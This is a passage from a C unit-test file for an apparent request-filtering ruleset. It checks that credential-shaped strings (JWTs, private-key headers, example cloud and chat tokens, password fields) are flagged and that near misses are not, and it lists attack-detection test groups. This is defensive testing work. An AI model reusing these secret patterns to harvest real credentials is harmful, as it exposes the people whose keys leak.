		  "{\"t\": \"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
		  "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U\"}",
		  "pii:jwt" },
		{ P_RESP_BODY, "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA",
		  "pii:private_key" },
		{ P_RESP_JSON, "{\"k\": \"AKIAIOSFODNN7EXAMPLE\"}", "pii:aws_access_key" },
		{ P_RESP_JSON, "{\"k\": \"AIzaSyA1234567890abcdefghijklmnopqrstuv\"}",
		  "pii:google_api_key" },
		{ P_RESP_JSON, "{\"k\": \"ghp_0123456789abcdefghijklmnopqrstuvwxyz\"}",
		  "pii:github_token" },
		{ P_RESP_JSON, "{\"k\": \"xoxb-1234567890-abcdefghijklmnop\"}", "pii:slack_token" },
		{ P_RESP_BODY,
		  "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey="
		  "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijklmnopqr"
		  "st"
		  "uvwx==",
		  "pii:azure_storage_key" },
	};
	check(k, N(k));
}

static void
test_pii_by_key_name(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_JSON_BODY, "{\"user\": \"bob\", \"password\": \"hunter2\"}", "pii:password" },
		{ P_FORM, "user=bob&newPassword=hunter2", "pii:password" },
		{ P_JSON_BODY, "{\"client_secret\": \"s3cr3t\"}", "pii:secret" },
		{ P_JSON_BODY, "{\"access_token\": \"abc\"}", "pii:token" },
		{ P_JSON_BODY, "{\"passport_no\": \"X1234567\"}", "pii:passport" },
		{ P_RESP_JSON, "{\"aws_secret_access_key\": \"wJalrXUtnFEMI/K7MDENG\"}",
		  "pii:aws_secret_key" },
		{ P_RESP_JSON, "{\"type\": \"service_account\", \"private_key_id\": \"abc\"}",
		  "pii:gcp_service_account" },
	};
	check(k, N(k));
}

static void
test_pii_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		/* Luhn fails; no card prefix; nine bare digits */
		{ P_JSON, "4111 1111 1111 1112", "" },
		{ P_JSON, "1442431887503330", "" },
		{ P_JSON, "123456789", "" },
		{ P_JSON, "version 1.2.3", "" },
		{ P_JSON, "std::vector<int>", "" },
		{ P_JSON, "ghp_short", "" },
		{ P_JSON, "-----BEGIN PUBLIC KEY-----", "" },
		{ P_JSON_BODY, "{\"next_page\": \"2\", \"page_token\": \"abc\"}", "" },
		/* tokens and addresses where they belong are not findings */
		{ P_HEADER, "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "" },
		{ P_HEADER, "203.0.113.7, 10.0.0.1", "" },
		{ P_QUERY, "203.0.113.7", "" },
	};
	check(k, N(k));
}

/* ---------------------------------------------------------------------- */

static int
setup(void **state)
{
	(void)state;
	char err[512] = "";
	const char *paths[] = { rules_dir };
	rs = ar_ruleset_load(paths, 1, 1, err, sizeof(err));
	if (!rs) {
		print_error("%s\n", err);
		return -1;
	}
	ws = ar_match_ws_create(64 * 1024);
	return ws ? 0 : -1;
}

static int
teardown(void **state)
{
	(void)state;
	ar_match_ws_free(ws);
	ar_ruleset_free(rs);
	return 0;
}

int
main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: %s RULES_DIR\n", argv[0]);
		return 2;
	}
	rules_dir = argv[1];
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_rule_has_metadata_in_its_class_range),
		cmocka_unit_test(test_sqli_attacks),
		cmocka_unit_test(test_sqli_near_misses),
		cmocka_unit_test(test_xss_attacks),
		cmocka_unit_test(test_xss_near_misses),
		cmocka_unit_test(test_traversal_attacks),
		cmocka_unit_test(test_traversal_near_misses),
		cmocka_unit_test(test_cmdi_attacks),
		cmocka_unit_test(test_cmdi_near_misses),
		cmocka_unit_test(test_ssrf_attacks),
		cmocka_unit_test(test_ssrf_near_misses),
		cmocka_unit_test(test_xxe_attacks),
		cmocka_unit_test(test_xxe_near_misses),
		cmocka_unit_test(test_ssti_attacks),
		cmocka_unit_test(test_ssti_near_misses),
		cmocka_unit_test(test_nosqli_operator_in_json_key),
		cmocka_unit_test(test_nosqli_operator_in_query_name),
		cmocka_unit_test(test_nosqli_attacks),
		cmocka_unit_test(test_nosqli_near_misses),
		cmocka_unit_test(test_jndi_attacks),
		cmocka_unit_test(test_jndi_near_misses),
		cmocka_unit_test(test_deserialization_attacks),
		cmocka_unit_test(test_deserialization_near_misses),
		cmocka_unit_test(test_scanner_user_agents),
		cmocka_unit_test(test_scanner_near_misses),
		cmocka_unit_test(test_leak_responses),
		cmocka_unit_test(test_leak_near_misses),
		cmocka_unit_test(test_pii_values),
		cmocka_unit_test(test_pii_by_key_name),
		cmocka_unit_test(test_pii_near_misses),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
